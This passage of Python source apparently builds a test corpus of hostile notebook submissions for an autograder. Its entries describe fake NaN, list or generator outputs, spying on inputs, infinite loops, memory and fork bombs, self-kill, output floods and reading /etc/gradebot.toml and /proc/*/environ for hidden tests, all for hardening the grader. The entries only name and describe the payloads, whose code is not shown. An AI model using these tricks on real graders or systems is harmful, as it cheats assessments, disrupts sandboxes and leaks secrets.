        "cells (part1_forward__flatten, bonus_conv__pooling_grad) and keras_mnist are lost",
        (fake_results("flatten", "FlattenLayer", "a 0-d object array", FAKE_OBJECT_0D),),
        expected_for({"FlattenLayer"}),
        attacks="0-d object array",
    ),
    Hostile(
        "fake_nan_inf",
        "solved; every MaxPooling method returns NaN arrays, every Conv2DLayer method inf arrays: the "
        "MaxPooling cells, keras_mnist and every bonus_conv cell are lost",
        (fake_results("maxpooling", "MaxPooling", "NaN", FAKE_NAN),),
        expected_for({"MaxPooling", "Conv2DLayer"}),
        attacks="NaN/inf",
        mutate=fake_results_appended("conv2d", "Conv2DLayer", "inf", FAKE_INF),
    ),
    Hostile(
        "fake_list",
        "solved; every CrossEntropy method returns a Python list of the right shape with wrong values: "
        "part2_grad_x__crossentropy is lost",
        (fake_results("crossentropy", "CrossEntropy", "a list of wrong values", FAKE_LIST),),
        expected_for({"CrossEntropy"}),
        attacks="Python list",
    ),
    Hostile(
        "fake_generator",
        "solved; every Conv2DTrLayer method returns a generator of (wrong) rows: every bonus_conv_tr cell is lost",
        (),
        expected_for({"Conv2DTrLayer"}),
        attacks="generator",
        mutate=fake_results_appended("conv2dtr", "Conv2DTrLayer", "a generator", FAKE_GENERATOR),
    ),
    # ---- reading the inputs
    Hostile(
        "print_inputs",
        "solved; every method of every class prints its inputs (small ones in full), its callers' code, "
        "constants and locals, and strings found in memory that look like tests: the math is right, so full "
        "marks, and no hidden-test code may show up in the output",
        (),
        FULL,
        attacks="printing inputs/callers",
        mutate=_with_added("optimizers", SPY_PRINT),
    ),
    Hostile(
        "save_inputs",
        "solved; every method saves its array inputs as .npy in cwd, home, /tmp, /dev/shm, /var/tmp and "
        "prints files left by earlier runs: full marks",
        (),
        FULL,
        attacks="saving inputs",
        mutate=_with_added("optimizers", SPY_SAVE),
    ),
    # ---- resource attacks inside methods
    Hostile(
        "softmax_forward_infinite_loop",
        "solved; Softmax.forward ignores SIGALRM/SIGTERM/SIGINT/SIGXCPU... and loops forever, swallowing "
        "whatever a timeout raises: Softmax.grad_x calls forward, so the Softmax cells and keras_mnist are "
        "lost; the rest must still be graded",
        (Edit("softmax", "e = np.exp(x - x.max(axis=1, keepdims=True))", SOFTMAX_LOOP),),
        SOFTMAX_BROKEN,
        attacks="infinite loop in a method",
    ),
    Hostile(
        "relu_grad_x_memory_bomb",
        "solved; ReLU.grad_x allocates and touches 1 GiB blocks until it fails (then raises MemoryError "
        "anyway): only part2_grad_x__relu calls ReLU.grad_x (ReLU.backward is its own)",
        (
            Edit(
                "relu",
                "x = np.asarray(input_data).reshape(len(input_data), -1)\n        return (x > 0)",
                RELU_MEMORY_BOMB + "\n        return (x > 0)",
            ),
        ),
        expected_for((), {"part2_grad_x__relu"}),
        attacks="memory bomb in a method",
    ),
    Hostile(
        "dense_grad_w_os_exit",
        "solved; DenseLayer.grad_W calls os._exit(0): only part3_training__grad_w calls grad_W (Dense has "
        "its own backward); the sandbox must be restarted for the other tests",
        (Edit("dense", "eye = np.eye(self.output_dim, dtype=self.W.dtype)", DENSE_EXIT),),
        expected_for((), {"part3_training__grad_w"}),
        attacks="os._exit in a method",
    ),
    Hostile(
        "dense_grad_b_sigkill",
        "solved; DenseLayer.grad_b sends SIGKILL to its own process: only part3_training__grad_b calls grad_b",
        (
            Edit(
                "dense",
                "return np.repeat(np.eye(self.output_dim, dtype=self.b.dtype)[None], len(x), axis=0)",
                DENSE_KILL,
            ),
        ),
        expected_for((), {"part3_training__grad_b"}),
        attacks="kill -9 self in a method",
    ),
    Hostile(
        "crossentropy_fork_bomb",
        "solved; CrossEntropy.grad_x forks (up to 300 children that sleep a minute) until fork fails, then "
        "never returns: part2_grad_x__crossentropy is lost; the process tree must be cleaned up",
        (Edit("crossentropy", "return np.where(p >= self.eps, -y / np.maximum(p, self.eps), 0.0)", FORK_BOMB),),
        expected_for({"CrossEntropy"}),
        attacks="fork bomb in a method",
    ),
    Hostile(
        "flatten_grad_x_floods_output",
        "solved; FlattenLayer.grad_x prints 100 MB of 'Test PASSED' (once per process), then returns the "
        "right Jacobian: output is cut short, the math is right: full marks",
        (Edit("flatten", "return np.repeat(np.eye(x.shape[1])[None], len(x), axis=0)", FLATTEN_FLOOD),),
        FULL,
        attacks="100 MB of prints in a method",
    ),
    Hostile(
        "added_cell_infinite_loop",
        "solved; a student-added cell after the last solution cell loops forever (cell-level; the sandbox "
        "cell timeout stops it): every class was defined before it: full marks",
        (),
        FULL,
        attacks="infinite loop in a cell",
        mutate=_with_added("optimizers", CELL_INFINITE_LOOP),
    ),
    # ---- secrets
    Hostile(
        "read_secrets",
        "solved; a cell and MaxPooling.forward (once) read /etc/gradebot.toml, /proc/*/environ, the course "
        "source notebook at guessed paths, list /, walk the filesystem for .ipynb/.toml/.db files and print "
        "them (and any hidden tests found): nothing secret is visible, no points lost: full marks",
        (Edit("maxpooling", "views = [v for v, _ in self._offsets(input_data)[1]]", READ_SECRETS_METHOD),),
        FULL,
        attacks="reading secrets",
        mutate=_with_added("network", READ_SECRETS),
    ),
]


def by_name(name: str) -> Hostile:
    for ex in HOSTILE:
        if ex.name == name:
            return ex
    raise KeyError(name)


def check_all(examples: Sequence[Hostile] = HOSTILE) -> list[str]:
    """Build every entry, validate it (nbformat schema) and compile every code cell; returns a list of problems."""
    problems = []
    names = [ex.name for ex in examples]
    if len(set(names)) != len(names):
        problems.append("duplicate names")
    release_nb = nbformat.read(os.path.join(RELEASE_DIR, NOTEBOOK), as_version=4)
    for ex in examples:
        try:
            nb = build_hostile(ex, release_nb)
            with_warnings = copy.deepcopy(nb)
            import warnings

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                nbformat.validate(with_warnings)
            for cell in nb.cells:
                if cell.cell_type == "code":
                    compile(cell.source, f'<{ex.name}:{cell.get("id")}>', "exec")
            exp = ex.expected_points()
            if set(exp) != set(TASKS) or any(exp[t] > TASKS[t] + 1e-9 or exp[t] < 0 for t in TASKS):
                problems.append(f"{ex.name}: bad expected points {exp}")
        except Exception as exc:  # noqa: BLE001 (report every problem, not the first)
            problems.append(f"{ex.name}: {type(exc).__name__}: {exc}")
    return problems


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="The hostile submissions corpus.")
    parser.add_argument("names", nargs="*", help="only these entries (default: all)")
    parser.add_argument("--list", action="store_true", help="list the entries and exit")
    parser.add_argument("--out", help="write the notebooks as OUT/<name>.ipynb")
    parser.add_argument("--check", action="store_true", help="build, validate and compile every entry")
    args = parser.parse_args(argv)
    unknown = set(args.names) - {ex.name for ex in HOSTILE}
    if unknown:
        parser.error(f'unknown entries: {", ".join(sorted(unknown))} (see --list)')
    chosen = [ex for ex in HOSTILE if not args.names or ex.name in args.names]
    if args.list or not (args.out or args.check):
        for ex in chosen:
            print(f"{ex.name:<32} {ex.base:<8} {sum(ex.expected_points().values()):6g}  {ex.attacks}")
        if not args.list:
            print("\n(use --out DIR to write the notebooks, --check to validate them)")
    status = 0
    if args.check:
        problems = check_all(chosen)
        for p in problems:
            print("PROBLEM", p)
        print(f"{len(chosen)} entries checked, {len(problems)} problems")
        status = 1 if problems else 0
    if args.out:
        os.makedirs(args.out, exist_ok=True)
        for ex in chosen:
            write_notebook(build_hostile(ex), os.path.join(args.out, ex.name + ".ipynb"))
        print(f"wrote {len(chosen)} notebooks to {args.out}")
    return status


if __name__ == "__main__":
    sys.exit(main())
